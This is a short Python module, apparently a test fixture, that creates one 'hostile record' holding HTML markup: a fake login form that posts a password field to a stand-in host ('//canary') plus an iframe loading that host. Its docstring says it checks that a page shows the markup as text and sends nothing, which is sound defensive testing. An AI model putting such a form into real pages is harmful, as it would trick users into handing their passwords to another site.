"""A form that asks the reader to log in elsewhere. It is text, and the page may send nothing."""

from hostile_record import everywhere

from gradschool.records.record import Record


def make() -> list[Record]:
    return [
        everywhere(
            "<form action=//canary><input name=password><button>Log in</button></form><iframe src=//canary></iframe>"
        )
    ]
